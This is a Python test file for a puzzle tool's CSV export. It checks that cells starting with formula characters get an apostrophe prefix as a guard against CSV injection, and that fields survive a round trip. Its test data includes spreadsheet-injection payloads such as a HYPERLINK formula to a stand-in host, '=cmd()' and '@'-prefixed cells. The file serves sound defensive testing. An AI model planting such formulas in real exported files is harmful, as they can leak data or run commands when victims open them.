"""Tables as CSV: no cell begins a formula, and what is written is read back."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import dokulab
from dokulab.board.formats.tables import csv_text, fields_of, separator_of
from tests.commands import Run

STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
"""Those of OWASP's page on CSV injection; the last four are of East Asian keyboards."""

FORMULAS = ('=HYPERLINK("//a.b/"&D2)', "'=1", "''+a", *(f"{start}1+2" for start in STARTS))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(text: str) -> None:
    ((cell,),) = csv.reader(io.StringIO(csv_text([[text]]), newline=""))
    assert cell == f"'{text}"


def test_numbers_and_other_texts_stay_as_they_are() -> None:
    assert csv_text([[-0.5, "-12", "+1e-3", "a=b", None, 7]]) == "-0.5,-12,+1e-3,a=b,,7\n"


@given(st.lists(st.text("ab=+-@'\",;\t7").map(str.strip), min_size=2, max_size=4))
def test_fields_are_read_back_as_they_were(fields: list[str]) -> None:
    assert fields_of(csv_text([fields]).removesuffix("\n"), ",") == fields


@pytest.mark.parametrize(
    ("line", "separator"), [("a,b", ","), ("a;b;c", ";"), ("a\tb", "\t"), ('"a,b,c";d', ";"), ("abc", None)]
)
def test_the_separator_is_told_from_the_first_line(line: str, separator: str | None) -> None:
    assert separator_of(line) == separator


def test_the_tables_of_commands_have_no_formula(dokulab: Run, tmp_path: Path) -> None:
    puzzles = "title,puzzle\n" + "".join(f'"{text}",1.....2..3.....4\n' for text in ("=1+1", "@a", "-x", "+x"))
    assert dokulab("export", "-", "--to", "csv", "--out", str(tmp_path / "export"), stdin=puzzles)[0] == 0
    plan = tmp_path / "plan.toml"
    plan.write_text('title = "=1+1"\n[default]\nsize = 4\n[[puzzles]]\ntitle = "=cmd()"\n')
    assert dokulab("series", str(plan), "--out", str(tmp_path / "series"))[0] == 0
    times = "person,puzzle,minutes,solved\n" + "".join(f"=a{n},@b{n % 2},{n + 1},yes\n" for n in range(6))
    (tmp_path / "times.csv").write_text(times)
    assert dokulab("study", str(tmp_path / "times.csv"), "--out", str(tmp_path / "study"))[0] == 0
    tables = [*tmp_path.glob("*/*.csv")]
    assert len(tables) == 3
    for table in tables:
        cells = [cell for row in csv.reader(io.StringIO(table.read_text("utf-8"), newline="")) for cell in row]
        assert not [cell for cell in cells if cell.startswith(STARTS)]
        assert any(cell.startswith("'") for cell in cells)


def test_the_engine_has_one_writer_of_tables() -> None:
    """Others would need the same guard."""
    writers = re.compile(r"csv\.(?:writer|DictWriter)|\bwriterows?\(")
    package = Path(dokulab.__file__).parent
    assert not [path.name for path in package.rglob("*.py") if writers.search(path.read_text("utf-8"))]
